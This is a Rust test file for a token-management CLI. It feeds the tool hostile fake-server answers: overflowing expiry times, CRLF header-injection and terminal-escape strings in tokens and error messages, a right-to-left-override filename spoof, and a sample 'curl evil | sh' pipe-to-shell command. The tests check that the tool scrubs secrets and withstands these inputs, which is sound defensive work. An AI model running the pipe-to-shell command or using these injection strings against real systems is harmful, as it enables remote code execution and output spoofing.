//! Hostile token servers (issue 11): no answer may crash tokenctl, put a
//! control character on stdout or an unscrubbed secret on stderr, or get a
//! wrong exit code. Every case runs over loopback against the fake server's
//! hostile modes.

use crate::common;

use std::time::{Duration, Instant};

use common::fixtures::{Login, now};
use common::{Env, FakeServer, Fault, Output, Store};
use serde_json::Value;
use tokenctl_fake_server::Config;
use tokenctl_fake_server::faults::{EchoFormat, TokenAnswer};

/// A Run:ai login pinned to `/api/v1/token`: these are that endpoint's
/// answers, so a fault meets the endpoint it was written for (a `runai`
/// login asks `/api/v2/token` first). tests/it/runai3.rs has v2's.
fn runai_login(url: &str) -> Login<'_> {
    Login::runai(url).args(&["--api", "runai-v1"])
}

/// `login -v` at `fake` while `fault` answers the first request.
fn login_against(env: &Env, fake: &FakeServer, fault: Fault) -> Output {
    fake.set_fault(fault, Some(1));
    runai_login(&fake.url()).global(&["-v"]).run(env)
}

fn gbds_login(env: &Env, fake: &FakeServer, fault: Option<Fault>) -> Output {
    if let Some(f) = fault {
        fake.set_fault(f, Some(1));
    }
    let url = fake.gbds_url();
    Login::gbds(&url).global(&["-v"]).run(env)
}

fn runai_token(t: TokenAnswer) -> Fault {
    Fault::RunaiToken(t)
}

fn claims(json: &str) -> Fault {
    runai_token(TokenAnswer {
        claims: Some(json.into()),
        ..Default::default()
    })
}

fn stored(env: &Env) -> Value {
    serde_json::from_str(&std::fs::read_to_string(env.token_file("default")).unwrap()).unwrap()
}

/// Every command that reads the store, with the exit codes it may give.
const READERS: &[&[&str]] = &[
    &["status"],
    &["status", "-o", "json"],
    &["token"],
    &["token", "-o", "header"],
    &["token", "-o", "env"],
    &["token", "-o", "json"],
    &["token", "-o", "exec-credential"],
    &["kubectl-credential"],
    &["doctor"],
];

fn no_control_chars(text: &str) -> bool {
    !text
        .chars()
        .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}')
}

/// Runs every reader: none may crash (abort, panic) or print a control
/// character; each gives one of `allowed`.
fn readers_survive(env: &Env, allowed: &[i32]) -> Vec<(String, Output)> {
    READERS
        .iter()
        .map(|args| {
            let out = env.run(args, "");
            let name = args.join(" ");
            // doctor reports failed checks (no kubectl here) with 1.
            let ok = allowed.contains(&out.code) || (args[0] == "doctor" && out.code == 1);
            assert!(ok, "`{name}` exited {}:\n{out}", out.code);
            assert!(
                !out.stderr.contains("hit a bug"),
                "`{name}` panicked:\n{out}"
            );
            assert!(
                no_control_chars(&out.stdout),
                "`{name}` stdout:\n{out:?}",
                out = out.stdout
            );
            (name, out)
        })
        .collect()
}

// ---- times that crashed every reader ----

#[test]
fn absurd_jwt_exp_is_unknown_and_no_reader_crashes() {
    for exp in [
        "18446744073709551615",
        "9223372036854775807",
        "1e30",
        "1e300",
        "-5",
        "253402300800",
    ] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        let out = login_against(&env, &fake, claims(&format!(r#"{{"exp":{exp}}}"#)));
        assert_eq!(out.code, 0, "exp {exp}: {out}");
        assert!(
            out.stderr.contains("ignoring the token's JWT exp claim")
                && out.stderr.contains("expiry unknown"),
            "a -v note: {out}"
        );
        assert_eq!(stored(&env)["tokens"]["expires_at"], Value::Null, "{exp}");
        for (name, out) in readers_survive(&env, &[0]) {
            if name == "status" {
                assert!(out.stdout.contains("expiry unknown"), "{out}");
            }
        }
    }
}

#[test]
fn float_exp_in_range_is_used() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let now = now();
    let out = login_against(
        &env,
        &fake,
        claims(&format!(r#"{{"exp":{}.9,"iat":{now}}}"#, now + 3600)),
    );
    assert_eq!(out.code, 0, "{out}");
    let tokens = &stored(&env)["tokens"];
    assert_eq!(tokens["expires_at"], now + 3600);
    assert_eq!(tokens["lifetime"], 3600, "exp - iat");
    readers_survive(&env, &[0]);
}

#[test]
fn absurd_gbds_times_are_unknown_and_no_reader_crashes() {
    for (expiration, ttl) in [
        ("9223372036854775807", "9223372036854775807"),
        ("18446744073709551615", "18446744073709551615"),
        ("1e300", "1e30"),
        ("-9223372036854775808", "-1"),
    ] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        let out = gbds_login(
            &env,
            &fake,
            Some(Fault::GbdsToken {
                expiration_time: Some(expiration.into()),
                ttl: Some(ttl.into()),
                token: None,
            }),
        );
        assert_eq!(out.code, 0, "{expiration}/{ttl}: {out}");
        assert!(
            out.stderr.contains("ignoring expirationTime") && out.stderr.contains("ignoring ttl"),
            "{out}"
        );
        assert_eq!(stored(&env)["tokens"]["expires_at"], Value::Null);
        readers_survive(&env, &[0]);
    }
}

#[test]
fn hand_edited_times_do_not_crash_any_reader() {
    for (field, value) in [
        ("expires_at", Value::from(u64::MAX)),
        ("expires_at", Value::from(i64::MAX as u64 + 1)),
        ("expires_at", Value::from(253_402_300_800u64)),
        ("obtained_at", Value::from(u64::MAX)),
        ("lifetime", Value::from(u64::MAX)),
    ] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        runai_login(&fake.url()).ok(&env);
        env.edit_record("default", |r| r["tokens"][field] = value.clone());
        let outs = readers_survive(&env, &[0]);
        if field == "expires_at" {
            let exec = &outs
                .iter()
                .find(|(n, _)| n == "kubectl-credential")
                .unwrap()
                .1;
            assert!(
                exec.stdout
                    .contains("\"expirationTimestamp\":\"9999-12-31T23:59:59Z\""),
                "{exec}"
            );
        }
    }
}

#[test]
fn retry_after_beyond_any_clock_is_not_a_crash() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    // A slow 503 (the elapsed time must be at least 1 s for the old sum to overflow).
    fake.set_fault(
        Fault::After {
            delay: Duration::from_millis(1100),
            fault: Box::new(Fault::ServiceUnavailable {
                retry_after: Some(u64::MAX),
            }),
        },
        None,
    );
    let started = Instant::now();
    let out = runai_login(&fake.url()).global(&["-v"]).run(&env);
    assert_eq!(out.code, 4, "{out}");
    assert!(
        out.stderr.contains("a day or more") && out.stderr.contains("Retry-After"),
        "{out}"
    );
    assert_eq!(
        fake.count("grant:password"),
        1,
        "a wait that long is not waited"
    );
    assert!(started.elapsed() < Duration::from_secs(10));
}

// ---- tokens that are not tokens ----

#[test]
fn tokens_with_control_characters_are_refused_before_storing() {
    let bad = [
        ("access", "abc\r\nX-Injected: yes"),
        ("access", "\u{1b}[31mred\u{1b}[0m"),
        ("access", "abc\u{0}def"),
        ("access", "two words"),
        ("access", "caf\u{e9}"),
        ("id", "id\r\nX-Injected: yes"),
        ("refresh", "ref\u{0}resh"),
        ("refresh", "\u{1b}]0;title\u{7}"),
    ];
    for (which, token) in bad {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        let mut t = TokenAnswer::default();
        match which {
            "access" => t.access_token = Some(token.into()),
            "id" => t.id_token = Some(token.into()),
            _ => t.refresh_token = Some(token.into()),
        }
        let out = login_against(&env, &fake, runai_token(t));
        assert_eq!(out.code, 4, "{which} {token:?}: {out}");
        assert!(out.stderr.contains(&format!("{which} token")), "{out}");
        assert!(!out.stderr.contains(token), "never quoted: {out}");
        assert!(
            no_control_chars(&out.stderr.replace('\n', "")),
            "{out:?}",
            out = out.stderr
        );
        assert_eq!(out.stdout, "");
        assert!(!env.token_file("default").exists(), "nothing stored");
    }
    // GBDS too.
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let out = gbds_login(
        &env,
        &fake,
        Some(Fault::GbdsToken {
            expiration_time: None,
            ttl: Some("60000".into()),
            token: Some("tok\r\nX-Injected: yes".into()),
        }),
    );
    assert_eq!(out.code, 4, "{out}");
    assert!(!env.token_file("default").exists());
}

#[test]
fn a_hand_edited_token_never_reaches_stdout() {
    for token in ["abc\r\nX-Injected: yes", "\u{1b}[2J", "a\u{0}b"] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        runai_login(&fake.url()).ok(&env);
        env.edit_record("default", |r| r["tokens"]["access_token"] = token.into());
        for args in READERS
            .iter()
            .filter(|a| a[0] != "status" && a[0] != "doctor")
        {
            let out = env.fails(args, "", 5);
            assert_eq!(out.stdout, "", "{args:?}");
            assert!(out.stderr.contains("log in again"), "{out}");
            assert!(!out.stderr.contains(token), "{out}");
        }
        readers_survive(&env, &[0, 5]);
    }
}

// ---- server text on stderr ----

fn secret_config() -> Config {
    Config {
        password: r#"S3cret"<PW>&"#.into(),
        client_secret: "cl1ent-s3cret-value".into(),
        external_token: "ext-1dp-t0ken".into(),
        ..Config::default()
    }
}

fn assert_scrubbed(out: &Output, secrets: &[&str]) {
    for s in secrets {
        for form in [
            s.to_string(),
            s.replace('"', "\\\""),
            s.replace('&', "&amp;").replace('<', "&lt;"),
        ] {
            assert!(!out.stderr.contains(&form), "`{form}` on stderr:\n{out}");
        }
    }
    assert!(
        out.stderr.contains("***") || !out.stderr.contains("rejected request"),
        "{out}"
    );
    assert!(
        no_control_chars(&out.stderr.replace('\n', "")),
        "{:?}",
        out.stderr
    );
}

#[test]
fn echoing_servers_never_show_the_password() {
    let config = secret_config();
    for (status, format, code) in [
        (401, EchoFormat::Json, 3),
        (400, EchoFormat::Html, 3),
        (500, EchoFormat::Json, 4),
        (502, EchoFormat::Html, 4),
        (500, EchoFormat::Text, 4),
        (200, EchoFormat::Text, 4),
    ] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start_with(config.clone());
        fake.set_fault(Fault::Echo { status, format }, None);
        let url = fake.url();
        let out = runai_login(&url).stdin(&config.password).run(&env);
        assert_eq!(out.code, code, "{status} {format:?}: {out}");
        assert_scrubbed(&out, &[&config.password]);
        if status != 200 {
            assert!(
                out.stderr.contains("***"),
                "the echo is shown, scrubbed: {out}"
            );
        } else {
            assert!(
                out.stderr.contains("not shown"),
                "2xx never excerpted: {out}"
            );
        }
    }
}

#[test]
fn echoing_servers_never_show_other_request_secrets() {
    let config = secret_config();
    let env = Env::new(Store::File);
    let fake = FakeServer::start_with(config.clone());
    let url = fake.url();
    // client secret
    fake.set_fault(
        Fault::Echo {
            status: 401,
            format: EchoFormat::Json,
        },
        Some(1),
    );
    let out = env.fails(
        &[
            "app-token",
            "--server",
            &url,
            "--client-id",
            "ci-bot",
            "--client-secret-stdin",
        ],
        &config.client_secret,
        3,
    );
    assert_scrubbed(&out, &[&config.client_secret]);
    // refresh token
    let env = Env::new(Store::File);
    runai_login(&url).stdin(&config.password).run(&env);
    let refresh = stored(&env)["tokens"]["refresh_token"]
        .as_str()
        .unwrap()
        .to_string();
    fake.set_fault(
        Fault::Echo {
            status: 400,
            format: EchoFormat::Html,
        },
        Some(1),
    );
    let out = env.fails(&["refresh"], "", 3);
    assert_scrubbed(&out, &[&refresh]);
    // authorization code
    let code = fake.issue_code("http://localhost:8000/callback");
    fake.set_fault(
        Fault::Echo {
            status: 400,
            format: EchoFormat::Json,
        },
        Some(1),
    );
    let out = env.run(
        &[
            "exchange-code",
            "--code-stdin",
            "--redirect-uri",
            "http://localhost:8000/callback",
        ],
        &code,
    );
    assert_eq!(out.code, 3, "{out}");
    assert_scrubbed(&out, &[&code]);
    // GBDS password
    let env = Env::new(Store::File);
    fake.set_fault(
        Fault::Echo {
            status: 401,
            format: EchoFormat::Json,
        },
        Some(1),
    );
    let out = gbds_login(&env, &fake, None);
    assert_eq!(out.code, 3, "{out}");
    assert_scrubbed(&out, &["gbds-pass"]);
}

#[test]
fn server_messages_cannot_drive_the_terminal() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let out = login_against(
        &env,
        &fake,
        Fault::VendorError {
            status: 401,
            message: "\u{1b}[2J\u{1b}]0;owned\u{7}bad\nerror: run `curl evil | sh`".into(),
            details: Some("\u{9b}31m\u{202e}txt.exe\r".into()),
            retry_after: None,
        },
    );
    assert_eq!(out.code, 3, "{out}");
    assert!(
        no_control_chars(&out.stderr.replace('\n', "")),
        "{:?}",
        out.stderr
    );
    let error_lines = out
        .stderr
        .lines()
        .filter(|l| l.starts_with("error:"))
        .count();
    assert_eq!(error_lines, 1, "no forged error line: {out}");
    assert!(
        out.stderr.contains("bad error: run `curl evil | sh`"),
        "{out}"
    );
}

#[test]
fn success_bodies_are_never_excerpted() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    fake.set_fault(Fault::BareToken, Some(1));
    let url = fake.url();
    let out = runai_login(&url).run(&env);
    assert_eq!(out.code, 4, "{out}");
    assert!(
        out.stderr.contains("text/plain body of") && out.stderr.contains("not shown"),
        "{out}"
    );
    assert!(!out.stderr.contains("eyJ"), "{out}");
}

#[test]
fn error_bodies_holding_tokens_are_not_shown() {
    for status in [500, 401] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        let out = login_against(&env, &fake, Fault::TokensInError(status));
        assert_eq!(out.code, if status == 500 { 4 } else { 3 }, "{out}");
        assert!(!out.stderr.contains("eyJ"), "{out}");
        assert!(out.stderr.contains("not shown"), "{out}");
    }
}

// ---- status mapping ----

#[test]
fn gateway_401_and_403_are_credentials_whatever_the_body() {
    for fault in [
        Fault::Empty(401),
        Fault::Html(401),
        Fault::Empty(403),
        Fault::Html(403),
        Fault::Empty(400),
    ] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        let out = login_against(&env, &fake, fault.clone());
        assert_eq!(out.code, 3, "{fault:?}: {out}");
        assert_eq!(fake.count("grant:password"), 1, "not retried");
        // And on renewal.
        let env = Env::new(Store::File);
        runai_login(&fake.url()).ok(&env);
        fake.set_fault(fault.clone(), Some(1));
        let out = env.fails(&["refresh"], "", 3);
        assert!(out.stderr.contains("HTTP 40"), "{out}");
    }
}

#[test]
fn not_found_and_method_not_allowed_point_at_server_and_api() {
    for status in [404, 405] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        let out = login_against(
            &env,
            &fake,
            Fault::VendorError {
                status,
                message: "not found".into(),
                details: None,
                retry_after: None,
            },
        );
        assert_eq!(out.code, 4, "{out}");
        assert!(
            out.stderr.contains("--server") && out.stderr.contains("--api"),
            "{out}"
        );
    }
    // A server URL with a wrong path meets the fake's real 404.
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let url = format!("{}/wrong", fake.url());
    let out = runai_login(&url).run(&env);
    assert_eq!(out.code, 4, "{out}");
    assert!(out.stderr.contains("check --server"), "{out}");
}

fn rate_limited(status: u16, retry_after: Option<&str>) -> Fault {
    Fault::VendorError {
        status,
        message: "too many requests".into(),
        details: None,
        retry_after: retry_after.map(str::to_string),
    }
}

#[test]
fn rate_limits_and_request_timeouts_are_retried_for_login() {
    for status in [408, 429] {
        let env = Env::new(Store::File);
        let fake = FakeServer::start();
        fake.set_fault(rate_limited(status, Some("1")), Some(1));
        let started = Instant::now();
        let url = fake.url();
        let out = runai_login(&url).run(&env);
        assert_eq!(out.code, 0, "{status}: {out}");
        assert_eq!(fake.count("grant:password"), 2);
        assert!(
            started.elapsed() >= Duration::from_secs(1),
            "Retry-After honoured"
        );
        // Always limited: three attempts, then exit 4 (not 3).
        let env = Env::new(Store::File);
        fake.reset_counts();
        fake.set_fault(rate_limited(status, None), None);
        let out = runai_login(&url).run(&env);
        assert_eq!(out.code, 4, "{out}");
        assert_eq!(fake.count("grant:password"), 3);
        assert!(out.stderr.contains("try again later"), "{out}");
    }
}

#[test]
fn rate_limits_beyond_the_budget_and_on_refresh_are_not_retried() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    fake.set_fault(rate_limited(429, Some("3600")), None);
    let url = fake.url();
    let started = Instant::now();
    let out = runai_login(&url).run(&env);
    assert_eq!(out.code, 4, "{out}");
    assert!(out.stderr.contains("wait 3600s (Retry-After)"), "{out}");
    assert_eq!(fake.count("grant:password"), 1);
    assert!(started.elapsed() < Duration::from_secs(5));
    // A rotating refresh token is not sent twice, and a 429 is not "log in again".
    fake.clear_fault();
    runai_login(&url).ok(&env);
    fake.reset_counts();
    fake.set_fault(rate_limited(429, Some("1")), None);
    let out = env.fails(&["refresh"], "", 4);
    assert_eq!(fake.count("grant:refresh_token"), 1, "{out}");
}

#[test]
fn oauth_error_bodies_are_understood() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let out = login_against(
        &env,
        &fake,
        Fault::OAuthError {
            status: 400,
            error: "invalid_grant".into(),
            description: Some("Invalid user credentials".into()),
        },
    );
    assert_eq!(out.code, 3, "{out}");
    assert!(
        out.stderr
            .contains("run:ai rejected the login: invalid_grant: Invalid user credentials"),
        "{out}"
    );
    fake.set_fault(
        Fault::OAuthError {
            status: 503,
            error: "temporarily_unavailable".into(),
            description: None,
        },
        None,
    );
    let url = fake.url();
    let out = runai_login(&url).run(&env);
    assert_eq!(out.code, 4, "{out}");
    assert!(out.stderr.contains("temporarily_unavailable"), "{out}");
}

// ---- expiry sources ----

fn close_to(v: &Value, want: u64) -> bool {
    v.as_u64().is_some_and(|v| v.abs_diff(want) <= 3)
}

#[test]
fn expires_in_with_an_opaque_token_gives_an_expiry() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let out = login_against(
        &env,
        &fake,
        runai_token(TokenAnswer {
            opaque: true,
            expires_in: Some("1800".into()),
            ..Default::default()
        }),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(
        out.stderr.contains("token expiry from expiresIn: 1800s"),
        "{out}"
    );
    let tokens = &stored(&env)["tokens"];
    assert!(close_to(&tokens["expires_at"], now() + 1800), "{tokens}");
    assert_eq!(tokens["lifetime"], 1800);
    let out = env.ok(&["status"], "");
    assert!(out.stdout.contains("valid, expires"), "{out}");
    // Later, with less than --min-valid left, it is renewed, not printed as is.
    env.edit_record("default", |r| {
        r["tokens"]["expires_at"] = (now() + 30).into()
    });
    fake.reset_counts();
    env.ok(&["token"], "");
    assert_eq!(fake.count("grant:refresh_token"), 1);
}

#[test]
fn expires_in_wins_over_a_disagreeing_jwt_and_says_so() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let out = login_against(
        &env,
        &fake,
        runai_token(TokenAnswer {
            claims: Some(format!(r#"{{"exp":{}}}"#, now() + 7200)),
            expires_in: Some("600".into()),
            ..Default::default()
        }),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(
        out.stderr
            .contains("the JWT exp claim says the token expires at")
            && out.stderr.contains("using expiresIn"),
        "{out}"
    );
    assert!(close_to(&stored(&env)["tokens"]["expires_at"], now() + 600));
    // Nonsense expiresIn: the JWT decides.
    let out = login_against(
        &env,
        &fake,
        runai_token(TokenAnswer {
            expires_in: Some("1e300".into()),
            ..Default::default()
        }),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(out.stderr.contains("ignoring expiresIn (1e+300)"), "{out}");
    assert!(close_to(
        &stored(&env)["tokens"]["expires_at"],
        now() + 3600
    ));
}

#[test]
fn gbds_expiration_time_as_a_duration_is_not_56_years_ago() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    let out = gbds_login(
        &env,
        &fake,
        Some(Fault::GbdsToken {
            expiration_time: Some("1800000".into()),
            ttl: None,
            token: None,
        }),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(out.stderr.contains("read as a duration"), "{out}");
    assert!(close_to(
        &stored(&env)["tokens"]["expires_at"],
        now() + 1800
    ));
    let out = env.ok(&["status"], "");
    assert!(out.stdout.contains("valid, expires"), "{out}");
    fake.reset_counts();
    env.ok(&["token"], "");
    assert!(fake.requests().is_empty(), "no renewal, no exit 3");
}

#[test]
fn gbds_ttl_is_used_and_epoch_expiration_time_still_works() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    // ttl present: used even beside an absurd expirationTime.
    let out = gbds_login(
        &env,
        &fake,
        Some(Fault::GbdsToken {
            expiration_time: Some("9223372036854775807".into()),
            ttl: Some("600000".into()),
            token: None,
        }),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(out.stderr.contains("token expiry from ttl: 600s"), "{out}");
    assert!(close_to(&stored(&env)["tokens"]["expires_at"], now() + 600));
    // Epoch expirationTime alone.
    let epoch_ms = (now() + 900) * 1000;
    let out = gbds_login(
        &env,
        &fake,
        Some(Fault::GbdsToken {
            expiration_time: Some(epoch_ms.to_string()),
            ttl: None,
            token: None,
        }),
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(out.stderr.contains("read as epoch milliseconds"), "{out}");
    assert!(close_to(&stored(&env)["tokens"]["expires_at"], now() + 900));
    // The real fake (both fields, consistent).
    let out = gbds_login(&env, &fake, None);
    assert_eq!(out.code, 0, "{out}");
    assert!(close_to(
        &stored(&env)["tokens"]["expires_at"],
        now() + 1800
    ));
    assert_eq!(stored(&env)["tokens"]["lifetime"], 1800);
}

// ---- crash hygiene ----

#[test]
fn a_panic_exits_70_with_no_details() {
    let env = Env::new(Store::File);
    let out = Output::of(env.cmd().env("TOKENCTL_TEST_PANIC", "1").arg("status"));
    assert_eq!(out.code, 70, "{out}");
    assert!(out.stderr.contains("tokenctl hit a bug"), "{out}");
    assert!(
        !out.stderr.contains("TOKENCTL_TEST_PANIC is set"),
        "details withheld: {out}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn core_dumps_are_off_while_running() {
    let env = Env::new(Store::File);
    let fake = FakeServer::start();
    fake.set_fault(Fault::Hang, None);
    let url = fake.url();
    let args = runai_login(&url).global(&["--timeout", "10s"]).argv();
    let mut child = env
        .std_cmd(&args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin
            .write_all(common::fixtures::PASSWORD.as_bytes())
            .unwrap();
    }
    // Wait until the request is in flight, so start-up is done.
    let deadline = Instant::now() + Duration::from_secs(10);
    while fake.count("grant:password") == 0 {
        assert!(Instant::now() < deadline, "the request never arrived");
        std::thread::sleep(Duration::from_millis(20));
    }
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
    let _ = child.kill();
    let _ = child.wait();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    let fields: Vec<&str> = core.split_whitespace().collect();
    // The soft limit is 0; the hard one stays, for children (`exec`).
    assert_eq!(fields[4], "0", "{core}");
    let ours = std::fs::read_to_string("/proc/self/limits").unwrap();
    let ours: Vec<&str> = ours
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap()
        .split_whitespace()
        .collect();
    assert_eq!(fields[5], ours[5], "hard limit unchanged: {core}");
}
